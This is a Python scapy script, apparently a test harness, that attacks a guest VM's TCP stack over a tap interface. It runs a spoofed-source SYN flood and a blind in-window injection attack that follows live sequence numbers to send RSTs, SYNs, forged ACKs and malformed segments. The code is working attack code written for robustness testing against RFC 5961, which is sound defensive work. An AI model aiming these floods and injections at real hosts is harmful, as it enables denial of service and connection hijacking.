#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
"""An attacker on the guest's link, run inside the test's network namespace (scapy, raw frames
on the tap):

    tcp_attack.py flood TAP SECONDS RATE
        SYNs to 10.0.2.15:7 from spoofed sources (198.18.0.0/15, RFC 2544's range, so the
        answers go to the gateway and nowhere), RATE per second.
    tcp_attack.py blind TAP ROUNDS
        Waits for a real connection to the guest's port 7, follows its sequence numbers, and
        with them injects, ROUNDS times: a RST and a SYN inside the guest's receive window
        but not at its edge (RFC 5961 3, 4), data whose ACK acknowledges what was never sent
        (RFC 5961 5), segments with a bad checksum, with every bad data offset, and every flag
        combination at an old sequence number.

Prints one JSON object with what was sent.
"""
import json
import logging
import random
import sys
import time

logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
from scapy.all import (IP, TCP, AsyncSniffer, Ether, Raw, conf, get_if_hwaddr,  # noqa: E402
                       raw)

GUEST_MAC, GUEST_IP, HOST_IP = "52:54:00:12:34:56", "10.0.2.15", "10.0.2.2"
conf.verb = 0


def flood(tap, secs, rate):
    rng = random.Random(9)
    src_mac = get_if_hwaddr(tap)
    s = conf.L2socket(iface=tap)
    sent = 0
    t0 = time.monotonic()
    while time.monotonic() - t0 < secs:
        batch = []
        for _ in range(max(1, rate // 20)):
            ip = "198.%d.%d.%d" % (18 + rng.randrange(2), rng.randrange(256), rng.randrange(1, 255))
            batch.append(raw(Ether(src=src_mac, dst=GUEST_MAC) / IP(src=ip, dst=GUEST_IP) /
                             TCP(sport=rng.randrange(1024, 65535), dport=7, flags="S",
                                 seq=rng.randrange(1 << 32), window=65535,
                                 options=[("MSS", 1460), ("WScale", 7)])))
        for b in batch:
            s.send(b)
        sent += len(batch)
        time.sleep(max(0.0, t0 + sent / rate - time.monotonic()))
    s.close()
    return {"syns": sent, "seconds": time.monotonic() - t0}


class Watch:
    """The latest segment of the connection the guest serves on port 7: its port on the other
    side, the guest's snd_nxt (seq) and rcv_nxt (ack)."""

    def __init__(self, tap):
        self.port = self.seq = self.ack = None
        self.sniffer = AsyncSniffer(iface=tap, store=False, prn=self.seen,
                                    lfilter=lambda p: TCP in p and p[IP].src == GUEST_IP and
                                    p[TCP].sport == 7 and p[TCP].flags & 0x10)
        self.sniffer.start()

    def seen(self, p):
        if self.port is None:
            self.port = p[TCP].dport
        if p[TCP].dport == self.port:
            self.seq, self.ack = p[TCP].seq, p[TCP].ack

    def wait(self, timeout=30):
        deadline = time.monotonic() + timeout
        while self.port is None and time.monotonic() < deadline:
            time.sleep(0.01)
        if self.port is None:
            raise SystemExit(json.dumps({"error": "no segment of the connection seen"}))

    def stop(self):
        self.sniffer.stop()


def blind(tap, rounds):
    src_mac = get_if_hwaddr(tap)
    w = Watch(tap)
    w.wait()
    port = w.port
    s = conf.L2socket(iface=tap)
    n = {"port": port, "rst_in_window": 0, "syn_in_window": 0, "ack_unsent": 0,
         "bad_cksum": 0, "bad_offset": 0, "flags": 0}

    def seg(seq, ack, flags, payload=b"", **tcp):
        return Ether(src=src_mac, dst=GUEST_MAC) / IP(src=HOST_IP, dst=GUEST_IP) / \
            TCP(sport=port, dport=7, seq=seq, ack=ack, flags=flags, window=65535, **tcp) / \
            Raw(payload)

    for _ in range(rounds):
        gseq, gack = w.seq, w.ack
        # in the guest's window (16 KiB), not at its left edge
        s.send(raw(seg(gack + 1000, 0, "R")))
        n["rst_in_window"] += 1
        s.send(raw(seg(gack + 2000, 0, "S")))
        n["syn_in_window"] += 1
        s.send(raw(seg(gack + 3000, gseq + 10_000_000, "A", b"injected!")))
        n["ack_unsent"] += 1
        b = bytearray(raw(seg(gack, gseq, "PA", b"bad checksum")))
        b[14 + 20 + 16] ^= 0xA5
        s.send(bytes(b))
        n["bad_cksum"] += 1
        for off in (0, 1, 2, 3, 4, 15):
            s.send(raw(seg(gack, gseq, "PA", b"bad offset", dataofs=off)))
            n["bad_offset"] += 1
        for f in range(256):  # every combination, at an old sequence number
            s.send(raw(seg(gack - 100000, gseq, f)))
            n["flags"] += 1
        time.sleep(0.05)
    s.close()
    w.stop()
    return n


def main():
    cmd, tap = sys.argv[1], sys.argv[2]
    if cmd == "flood":
        r = flood(tap, float(sys.argv[3]), int(sys.argv[4]))
    elif cmd == "blind":
        r = blind(tap, int(sys.argv[3]))
    else:
        raise SystemExit("unknown command " + cmd)
    print(json.dumps(r), flush=True)


if __name__ == "__main__":
    main()
